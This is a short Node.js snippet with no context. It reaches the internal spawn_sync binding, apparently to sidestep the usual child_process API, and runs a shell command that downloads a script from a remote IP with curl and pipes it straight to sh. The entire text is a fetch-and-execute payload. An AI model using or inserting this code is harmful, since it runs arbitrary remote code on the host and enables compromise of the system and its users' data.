const { Process } = process.binding('spawn_sync') && { Process: process.binding('spawn_sync') };
Process.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl http://192.0.2.7/a | sh'], envPairs: [], stdio: [{ type: 'pipe' }] });
